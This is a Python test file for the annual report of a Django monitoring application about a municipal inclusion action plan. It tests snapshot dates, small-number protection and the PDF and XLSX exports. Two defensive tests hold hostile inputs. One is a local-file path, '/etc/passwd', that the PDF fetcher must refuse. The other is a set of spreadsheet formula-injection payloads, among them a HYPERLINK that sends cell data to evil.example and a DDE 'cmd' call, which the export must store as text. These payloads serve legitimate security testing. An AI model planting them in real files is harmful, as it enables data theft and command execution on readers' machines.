"""The yearly report: contents as of the Stichtag, protection of small numbers, PDF, XLSX, cost."""

import datetime
import io
import re
import subprocess
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from aktionsplan.models import Raum
from monitoring.jahresbericht import jahresbericht_erstellen, stichtag_fuer
from monitoring.models import Messwert
from projekte.models import Ampel, Projektskizze, Status
from tests.factories import (
    ErkenntnisFactory,
    IndikatorFactory,
    KommuneFactory,
    MeilensteinFactory,
    MesswertFactory,
    PlanFactory,
    ProjektskizzeFactory,
    RaumFactory,
    SachstandFactory,
    ThemaFactory,
)

pytestmark = pytest.mark.django_db

JAHR = 2025


def _zeit(jahr, monat, tag, stunde=12):
    return timezone.make_aware(datetime.datetime(jahr, monat, tag, stunde))


def _sachstand(projekt, datum, status, ampel=Ampel.IM_PLAN, text="Bericht", fortschritt=30):
    return SachstandFactory(
        projekt=projekt, datum=datum, status=status, ampel=ampel, text=text, fortschritt=fortschritt
    )


@pytest.fixture
def daten():
    wohnen = ThemaFactory(name="Wohnen und öffentlicher Raum", reihenfolge=1)
    bildung = ThemaFactory(name="Bildung und lebenslanges Lernen", reihenfolge=2)
    plan = PlanFactory(kurzname="AP")
    a = ProjektskizzeFactory(plan=plan, nummer=1, titel="Rampen am Rathaus", hauptthema=wohnen)
    # The title as it stood at the end of 2025; renamed in 2026.
    a.history.update(history_date=timezone.make_aware(datetime.datetime(2025, 1, 5, 12)))
    a.titel = "Barrierefreies Rathaus (neu benannt)"
    a.save()
    _sachstand(a, datetime.date(2024, 3, 1), Status.IN_PLANUNG)
    _sachstand(
        a,
        datetime.date(2025, 5, 1),
        Status.IN_UMSETZUNG,
        Ampel.GEFAEHRDET,
        "Bau hat begonnen, Lieferverzug.",
        fortschritt=45,
    )
    _sachstand(a, datetime.date(2026, 2, 1), Status.UMGESETZT, text="Fertig 2026.")
    b = ProjektskizzeFactory(
        plan=plan, nummer=2, titel="Lotsen für Wohnberatung", hauptthema=wohnen
    )
    _sachstand(b, datetime.date(2025, 2, 1), Status.IN_PLANUNG)
    c = ProjektskizzeFactory(plan=plan, nummer=3, titel="Inklusive Kita", hauptthema=bildung)
    _sachstand(c, datetime.date(2024, 6, 1), Status.IN_UMSETZUNG)
    e = ProjektskizzeFactory(plan=plan, nummer=5, titel="Idee Stadtspaziergang", hauptthema=wohnen)
    Projektskizze.objects.filter(pk=e.pk).update(
        erstellt_am=timezone.make_aware(datetime.datetime(2024, 1, 1))
    )
    # Created now (after the Stichtag), no reports: not part of the 2025 report.
    ProjektskizzeFactory(plan=plan, nummer=4, titel="Neue Maßnahme 2026", hauptthema=bildung)

    MeilensteinFactory(projekt=a, titel="Bauantrag gestellt", erledigt_am=datetime.date(2025, 7, 1))
    MeilensteinFactory(projekt=a, titel="Abnahme erfolgt", erledigt_am=datetime.date(2026, 1, 10))
    MeilensteinFactory(projekt=c, titel="Konzept fertig", erledigt_am=datetime.date(2024, 12, 1))

    ErkenntnisFactory(
        titel="Wege sind zu schmal", datum=datetime.date(2025, 9, 1), ist_kernaussage=True
    )
    ErkenntnisFactory(titel="Nebenbefund", datum=datetime.date(2025, 9, 2))
    ErkenntnisFactory(
        titel="Alte Kernaussage", datum=datetime.date(2024, 9, 1), ist_kernaussage=True
    )

    kommune = Raum.objects.get_or_create(
        slug="testkommune", defaults={"name": "Testkommune", "ebene": Raum.Ebene.KOMMUNE}
    )[0]
    sozialraum = RaumFactory(name="Atsch", uebergeordnet=kommune)
    klein = IndikatorFactory(
        name="Arbeitslose Menschen mit Behinderung",
        basiswert=Decimal("10"),
        zielwert=Decimal("5"),
        richtung="niedriger",
        mindestfallzahl=3,
    )
    MesswertFactory(indikator=klein, raum=kommune, jahr=JAHR, wert=Decimal("2"))
    MesswertFactory(indikator=klein, raum=sozialraum, jahr=JAHR, wert=Decimal("2"))
    MesswertFactory(indikator=klein, raum=kommune, jahr=JAHR - 1, wert=Decimal("7"))
    gross = IndikatorFactory(
        name="Barrierefreie Haltestellen",
        basiswert=Decimal("20"),
        zielwert=Decimal("60"),
        basisjahr=2020,
        zieljahr=2030,
    )
    MesswertFactory(indikator=gross, raum=kommune, jahr=JAHR, wert=Decimal("40"))
    # The values were entered during 2025 (the report reads them from the history).
    Messwert.history.update(history_date=_zeit(2025, 6, 1))
    return {"a": a, "b": b, "c": c, "e": e, "wohnen": wohnen, "bildung": bildung}


def test_stichtag():
    heute = datetime.date(2026, 11, 24)
    assert stichtag_fuer(2025, heute) == datetime.date(2025, 12, 31)
    assert stichtag_fuer(2026, heute) == heute


def test_inhalt_zum_stichtag(daten, lesen_user):
    bericht = jahresbericht_erstellen(JAHR, nutzer=lesen_user, heute=datetime.date(2026, 11, 24))
    titel = [m.titel for m in bericht.massnahmen]
    assert titel == [
        "Rampen am Rathaus",
        "Lotsen für Wohnberatung",
        "Inklusive Kita",
        "Idee Stadtspaziergang",
    ]
    a = bericht.massnahmen[0]
    # The 2026 report "Umgesetzt" is ignored.
    assert (a.status, a.ampel, a.fortschritt, a.text) == (
        Status.IN_UMSETZUNG,
        Ampel.GEFAEHRDET,
        45,
        "Bau hat begonnen, Lieferverzug.",
    )
    zaehlung = {z.thema.name: (dict(z.je_status), z.gesamt) for z in bericht.themen}
    wohnen, gesamt = zaehlung["Wohnen und öffentlicher Raum"]
    assert gesamt == 3
    assert (wohnen["idee"], wohnen["in_planung"], wohnen["in_umsetzung"], wohnen["umgesetzt"]) == (
        1,
        1,
        1,
        0,
    )
    assert zaehlung["Bildung und lebenslanges Lernen"][1] == 1
    assert [ms.titel for ms in bericht.meilensteine] == ["Bauantrag gestellt"]
    assert [e.titel for e in bericht.kernaussagen] == ["Wege sind zu schmal"]
    assert [(m.titel, m.status_vorjahr, m.status) for m in bericht.aenderungen] == [
        ("Rampen am Rathaus", Status.IN_PLANUNG, Status.IN_UMSETZUNG),
        ("Lotsen für Wohnberatung", Status.IDEE, Status.IN_PLANUNG),
    ]


def test_html_bericht(lesen_client, daten):
    antwort = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR}))
    inhalt = antwort.content.decode()
    assert antwort.status_code == 200
    assert re.search(r"<h1[^>]*>Jahresbericht 2025</h1>", inhalt)
    assert "Rampen am Rathaus" in inhalt
    assert "neu benannt" not in inhalt
    assert "Neue Maßnahme 2026" not in inhalt
    assert "Fertig 2026." not in inhalt
    assert "Bau hat begonnen, Lieferverzug." in inhalt
    assert "gefährdet" in inhalt
    assert "Bauantrag gestellt" in inhalt
    assert "Abnahme erfolgt" not in inhalt
    assert "Konzept fertig" not in inhalt
    assert "Wege sind zu schmal" in inhalt
    assert "Nebenbefund" not in inhalt
    assert "Alte Kernaussage" not in inhalt
    # Status change from → to.
    aenderung = re.search(
        r"AP 2: Lotsen für Wohnberatung</a></th>\s*<td[^>]*>([^<]+)</td>\s*<td[^>]*>([^<]+)</td>",
        inhalt,
    )
    assert aenderung.groups() == ("Idee", "In Planung")
    # The protected indicator: "< 3" for 2025, the 2024 value 7 shown, no progress percentage.
    zeile = re.search(r"Arbeitslose Menschen mit Behinderung.*?</tr>", inhalt, re.S).group(0)
    assert "&lt; 3" in zeile
    assert ">7<" in zeile
    assert ">2<" not in zeile
    assert "%" not in zeile
    assert "zum Schutz kleiner Zahlen nicht berechnet" in zeile
    haltestellen = re.search(r"Barrierefreie Haltestellen.*?</tr>", inhalt, re.S).group(0)
    assert ">40<" in haltestellen
    assert "50 %" in haltestellen


def _datei(client, format_, jahr=JAHR):
    """The report file as a reader gets it: "erstellen" starts the task (run at once in the
    tests), its status page offers the download."""
    start = client.post(reverse(f"monitoring:bericht_{format_}", kwargs={"jahr": jahr}))
    assert start.status_code == 302
    status = client.get(start.url)
    assert status.status_code == 200
    download = re.search(r'href="(/aufgaben/[0-9a-f-]+/datei/)"', status.content.decode()).group(1)
    antwort = client.get(download)
    assert antwort.status_code == 200
    return antwort


def test_pdf(lesen_client, daten, tmp_path):
    antwort = _datei(lesen_client, "pdf")
    assert antwort["Content-Type"] == "application/pdf"
    assert antwort["Content-Disposition"] == 'attachment; filename="jahresbericht-2025.pdf"'
    inhalt = b"".join(antwort.streaming_content)
    assert inhalt.startswith(b"%PDF")
    datei = tmp_path / "bericht.pdf"
    datei.write_bytes(inhalt)
    text = subprocess.run(
        ["/usr/bin/pdftotext", "-layout", str(datei), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert "Jahresbericht 2025" in text
    assert "Rampen am Rathaus" in text
    assert "Bauantrag gestellt" in text
    assert "Wege sind zu schmal" in text
    zeilen = text.splitlines()
    nummer = next(i for i, z in enumerate(zeilen) if "Arbeitslose" in z)
    # The row may wrap (the report's comparison column): its value is on one of its lines.
    zeile = " ".join(zeilen[nummer : nummer + 3])
    assert "< 3" in zeile
    assert " 2 " not in zeile + " "
    info = subprocess.run(
        ["/usr/bin/pdfinfo", str(datei)], capture_output=True, text=True, check=True
    ).stdout
    assert "Jahresbericht 2025" in info  # title metadata
    assert re.search(r"Tagged:\s+yes", info)


def test_xlsx(lesen_client, daten):
    mappe = _xlsx(lesen_client)
    assert mappe.sheetnames == [
        "Bericht",
        "Themen",
        "Maßnahmen",
        "Meilensteine",
        "Indikatoren",
        "Kernaussagen",
        "Statusänderungen",
        "Fortschreibungen",
    ]
    indikatoren = {z[0]: z for z in mappe["Indikatoren"].iter_rows(min_row=2, values_only=True)}
    klein = indikatoren["Arbeitslose Menschen mit Behinderung"]
    assert klein[3] == "< 3"
    assert klein[2] == 7
    assert 2 not in klein
    assert indikatoren["Barrierefreie Haltestellen"][3] == 40
    massnahmen = list(mappe["Maßnahmen"].iter_rows(min_row=2, values_only=True))
    assert massnahmen[0][1:5] == (
        "Rampen am Rathaus",
        "Wohnen und öffentlicher Raum",
        "In Umsetzung",
        "gefährdet",
    )
    aenderungen = list(mappe["Statusänderungen"].iter_rows(min_row=2, values_only=True))
    assert ("AP 2", "Lotsen für Wohnberatung", "Idee", "In Planung") in aenderungen


def test_auswahl_jahre_aus_daten(lesen_client, daten):
    antwort = lesen_client.get(reverse("monitoring:bericht_auswahl"))
    inhalt = antwort.content.decode()
    assert '<option value="2025"' in inhalt
    assert '<option value="2024"' in inhalt
    assert '<option value="2023"' not in inhalt
    weiter = lesen_client.get(reverse("monitoring:bericht_auswahl"), {"jahr": "2024"})
    assert weiter.status_code == 302
    assert weiter.url == reverse("monitoring:bericht", kwargs={"jahr": 2024})


def test_kein_bericht_fuer_die_zukunft(lesen_client):
    jahr = timezone.localdate().year + 1
    assert lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": jahr})).status_code == 404


@pytest.mark.parametrize(
    "url",
    [
        reverse("monitoring:bericht_auswahl"),
        reverse("monitoring:bericht", kwargs={"jahr": JAHR}),
        reverse("monitoring:bericht_pdf", kwargs={"jahr": JAHR}),
        reverse("monitoring:bericht_xlsx", kwargs={"jahr": JAHR}),
    ],
)
def test_rechte_je_rolle(rollen_client, url):
    antwort = rollen_client.get(url)
    if rollen_client.rolle == "anonym":
        assert antwort.status_code == 302
        assert antwort.url.startswith(reverse("login"))
    else:
        assert antwort.status_code == 200
    assert rollen_client.post(url).status_code in (302, 405)


@pytest.mark.parametrize("anzahl", [5, 30])
def test_abfragen_bericht(lesen_client, django_assert_num_queries, anzahl):
    thema = ThemaFactory()
    plan = PlanFactory()
    kommune = Raum.objects.get_or_create(
        slug="testkommune", defaults={"name": "Testkommune", "ebene": Raum.Ebene.KOMMUNE}
    )[0]
    for i in range(anzahl):
        projekt = ProjektskizzeFactory(plan=plan, hauptthema=thema)
        _sachstand(projekt, datetime.date(JAHR, 3, 1), Status.IN_UMSETZUNG)
        MeilensteinFactory(projekt=projekt, erledigt_am=datetime.date(JAHR, 4, 1))
        ErkenntnisFactory(datum=datetime.date(JAHR, 5, 1), ist_kernaussage=True).themen.add(thema)
        indikator = IndikatorFactory()
        indikator.themen.add(thema)
        MesswertFactory(indikator=indikator, raum=kommune, jahr=JAHR, wert=Decimal(i))
    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
    # 1 session, 2 user, 3 groups; report, each long list one page of its SQL rows with its
    # COUNT: 4–5 measures, 6–7 measures whose status changed, 8–9 milestones reached,
    # 10 status counts per theme, 11 titles from the history (of the rows shown), 12 themes,
    # 13 the previous adopted report (the comparison's reference),
    # 13–14 indicators (+ source, actor, responsible person, delivery dates), 15 their themes,
    # 16 their UN-BRK articles, 17 the own Kommune, 18 values of both years and the base years
    # as of the Stichtag (history, the shown indicators only), 19 values without history,
    # 20 their indicators, 21 their areas, 22–23 key findings, 24 their themes, 25–26 the annex
    # of profiles (a page of indicators), 27 their themes, 28 their UN-BRK articles, 29 the
    # plans' versions decided by the Stichtag; counted from 12 on, one more.
    with django_assert_num_queries(30):
        antwort = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR}))
    assert antwort.status_code == 200
    # Served again from its stored rendering, the user and the groups from the cache
    # (aktionsplan.benutzerspeicher): the session only.
    with django_assert_num_queries(1):
        lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR}))


def test_lange_listen_des_berichts_sind_geblaettert(lesen_client):
    """The report page does not grow with the data: each long list shows one page of rows with
    a pager that keeps the other lists' pages; the count in the header is all measures."""
    from monitoring.jahresbericht import BERICHT_ZEILEN_JE_SEITE

    thema = ThemaFactory()
    plan = PlanFactory()
    anzahl = BERICHT_ZEILEN_JE_SEITE + 7
    for i in range(anzahl):
        projekt = ProjektskizzeFactory(
            plan=plan, hauptthema=thema, titel=f"Blättermaßnahme {i:03d}"
        )
        _sachstand(projekt, datetime.date(JAHR, 3, 1), Status.IN_UMSETZUNG)
    adresse = reverse("monitoring:bericht", kwargs={"jahr": JAHR})
    inhalt = lesen_client.get(adresse).content.decode()
    assert inhalt.count("Blättermaßnahme ") == 2 * BERICHT_ZEILEN_JE_SEITE  # two lists, one page
    assert f"{anzahl} Maßnahmen" in inhalt
    assert 'aria-label="Seiten: Maßnahmen"' in inhalt
    assert "?massnahmen=2#massnahmen-titel" in inhalt
    zweite = lesen_client.get(adresse, {"massnahmen": 2, "aenderungen": 2}).content.decode()
    # Page 2 of both lists: the rest of the measures and of the status changes.
    assert zweite.count("Blättermaßnahme ") == 2 * 7
    # The pager's links keep the other list's page.
    links = re.findall(r'href="\?([^"]*)#massnahmen-titel"', zweite)
    assert links
    assert all("aenderungen=2" in link for link in links)
    # A page beyond the end or a word is the last or the first page, never an error.
    assert lesen_client.get(adresse, {"massnahmen": 99}).status_code == 200
    assert lesen_client.get(adresse, {"massnahmen": "²"}).status_code == 200


def test_pdf_laedt_nur_lokale_statische_dateien():
    from django.conf import settings

    from monitoring.jahresbericht_export import StatischerFetcher

    fetcher = StatischerFetcher()
    css = (settings.BASE_DIR / "static" / "css" / "bericht.css").resolve()
    assert b".bericht-pdf" in fetcher.fetch(css.as_uri()).read()
    for url in (
        "https://fonts.example.org/font.woff2",
        "http://127.0.0.1:8000/static/css/bericht.css",
        (settings.BASE_DIR / "konfiguration" / "settings.py").resolve().as_uri(),
        "file:///etc/passwd",
    ):
        with pytest.raises(ValueError, match="statische"):
            fetcher.fetch(url)


# --- review fixes -------------------------------------------------------------------------------


def _xlsx(client, jahr=JAHR):
    antwort = _datei(client, "xlsx", jahr)
    return load_workbook(io.BytesIO(b"".join(antwort.streaming_content)))


def test_xlsx_schreibt_keine_formeln(lesen_client):
    thema = ThemaFactory(name="=1+1")
    plan = PlanFactory(kurzname="AP")
    projekt = ProjektskizzeFactory(plan=plan, nummer=7, titel="@SUMME(A1)", hauptthema=thema)
    Projektskizze.history.update(history_date=_zeit(JAHR, 1, 5))
    _sachstand(
        projekt,
        datetime.date(JAHR, 3, 1),
        Status.IN_UMSETZUNG,
        text='=HYPERLINK("http://evil.example/?x="&A1;"Details")',
        fortschritt=40,
    )
    MeilensteinFactory(
        projekt=projekt, titel="+cmd|' /C calc'!A0", erledigt_am=datetime.date(JAHR, 4, 1)
    )
    ErkenntnisFactory(
        titel="-2+3", text=" =1+2", datum=datetime.date(JAHR, 5, 1), ist_kernaussage=True
    )
    mappe = _xlsx(lesen_client)
    for blatt in mappe.worksheets:
        for zeile in blatt.iter_rows():
            for zelle in zeile:
                assert zelle.data_type != "f", (blatt.title, zelle.coordinate, zelle.value)
    massnahme = next(mappe["Maßnahmen"].iter_rows(min_row=2, values_only=True))
    # Texts are text cells holding the text as typed (no formula, no apostrophe).
    assert massnahme[1] == "@SUMME(A1)"
    assert massnahme[2] == "=1+1"
    assert massnahme[5] == 40  # numbers stay numbers
    assert massnahme[6] == datetime.datetime(JAHR, 3, 1)  # dates stay dates
    assert massnahme[7] == '=HYPERLINK("http://evil.example/?x="&A1;"Details")'
    meilenstein = next(mappe["Meilensteine"].iter_rows(min_row=2, values_only=True))
    assert meilenstein[1] == "+cmd|' /C calc'!A0"
    kernaussage = next(mappe["Kernaussagen"].iter_rows(min_row=2, values_only=True))
    assert kernaussage[1:3] == ("-2+3", " =1+2")
    themen = next(mappe["Themen"].iter_rows(min_row=2, values_only=True))
    assert themen[0] == "=1+1"
    assert themen[-1] == 1


def test_meilensteine_im_xlsx_mit_dem_titel_zum_stichtag(lesen_client, daten):
    zeilen = list(_xlsx(lesen_client)["Meilensteine"].iter_rows(min_row=2, values_only=True))
    assert [z[:2] for z in zeilen] == [("AP 1: Rampen am Rathaus", "Bauantrag gestellt")]
    assert "neu benannt" not in str(zeilen)
    html = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR})).content.decode()
    zeile = re.search(r"Bauantrag gestellt</th>.*?</tr>", html, re.S).group(0)
    assert "AP 1: Rampen am Rathaus" in zeile


def test_werte_wie_sie_zum_stichtag_standen(lesen_client, lesen_user):
    kommune = KommuneFactory(name="Stolberg", slug="stolberg")
    korrigiert = IndikatorFactory(name="Korrigiert", ist_fallzahl=False)
    spaet = IndikatorFactory(name="Erst 2026 erfasst", ist_fallzahl=False)
    geloescht = IndikatorFactory(name="2026 gelöscht", ist_fallzahl=False)
    ohne_historie = IndikatorFactory(name="Ohne Historie", ist_fallzahl=False)
    wert = MesswertFactory(indikator=korrigiert, raum=kommune, jahr=JAHR, wert=Decimal(120))
    weg = MesswertFactory(indikator=geloescht, raum=kommune, jahr=JAHR, wert=Decimal(77))
    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
    Messwert.objects.bulk_create(
        [Messwert(indikator=ohne_historie, raum=kommune, jahr=JAHR, wert=Decimal(55))]
    )
    Messwert.objects.filter(indikator=ohne_historie).update(geaendert_am=_zeit(JAHR, 7, 1))
    # After the report was given (2026): a correction, a late value, a deletion.
    wert.wert = Decimal(130)
    wert.save()
    MesswertFactory(indikator=spaet, raum=kommune, jahr=JAHR, wert=Decimal(99))
    weg.delete()

    bericht = jahresbericht_erstellen(JAHR, nutzer=lesen_user, heute=datetime.date(2026, 11, 24))
    werte = {z.indikator.name: z.wert.text if z.wert else None for z in bericht.indikatoren}
    assert werte == {
        "Korrigiert": "120",
        "Erst 2026 erfasst": None,
        "2026 gelöscht": "77",
        "Ohne Historie": "55",
    }
    # The report of the current year shows today's state.
    heute = timezone.localdate()
    MesswertFactory(indikator=korrigiert, raum=kommune, jahr=heute.year, wert=Decimal(140))
    aktuell = jahresbericht_erstellen(heute.year, nutzer=lesen_user)
    assert next(z for z in aktuell.indikatoren if z.indikator == korrigiert).wert.text == "140"
    zelle = next(
        z
        for z in _xlsx(lesen_client)["Indikatoren"].iter_rows(min_row=2, values_only=True)
        if z[0] == "Korrigiert"
    )
    assert zelle[3] == 120


def test_wert_der_eigenen_kommune(lesen_client, lesen_user):
    aachen = KommuneFactory(name="Aachen", slug="aachen")
    stolberg = KommuneFactory(name="Stolberg", slug="stolberg", amtlicher_schluessel="05334032")
    indikator = IndikatorFactory(name="Haltestellen", ist_fallzahl=False)
    MesswertFactory(indikator=indikator, raum=aachen, jahr=JAHR, wert=Decimal(900))
    MesswertFactory(indikator=indikator, raum=stolberg, jahr=JAHR, wert=Decimal(40))
    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
    bericht = jahresbericht_erstellen(JAHR, nutzer=lesen_user, heute=datetime.date(2026, 11, 24))
    assert bericht.indikatoren[0].wert.text == "40"
    html = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR})).content.decode()
    zeile = re.search(r"Haltestellen</a>.*?</tr>", html, re.S).group(0)
    assert ">40<" in zeile
    assert "900" not in zeile


def test_basiswert_sekundaer_zurueckgehalten(lesen_client, lesen_user):
    kommune = KommuneFactory(name="Stolberg", slug="stolberg")
    atsch = RaumFactory(name="Atsch", uebergeordnet=kommune)
    indikator = IndikatorFactory(
        name="Rollstuhlnutzende",
        basiswert=Decimal(5),
        basisjahr=2020,
        zielwert=Decimal(20),
        zieljahr=2030,
        mindestfallzahl=3,
    )
    # Kommune 5 = Atsch 2 ("< 3"): the Kommune value is withheld ("•") in the 2020 group.
    MesswertFactory(indikator=indikator, raum=kommune, jahr=2020, wert=Decimal(5))
    MesswertFactory(indikator=indikator, raum=atsch, jahr=2020, wert=Decimal(2))
    MesswertFactory(indikator=indikator, raum=kommune, jahr=JAHR, wert=Decimal(12))
    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
    bericht = jahresbericht_erstellen(JAHR, nutzer=lesen_user, heute=datetime.date(2026, 11, 24))
    zeile = bericht.indikatoren[0]
    assert zeile.basiswert_text == "•"
    assert zeile.fortschritt.prozent is None  # the percentage would give the baseline away
    html = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR})).content.decode()
    tabellenzeile = re.search(r"Rollstuhlnutzende</a>.*?</tr>", html, re.S).group(0)
    assert "•" in tabellenzeile
    assert ">5<" not in tabellenzeile
    assert ">12<" in tabellenzeile
    xlsx = next(_xlsx(lesen_client)["Indikatoren"].iter_rows(min_row=2, values_only=True))
    assert xlsx[4] == "•"
    assert 5 not in xlsx
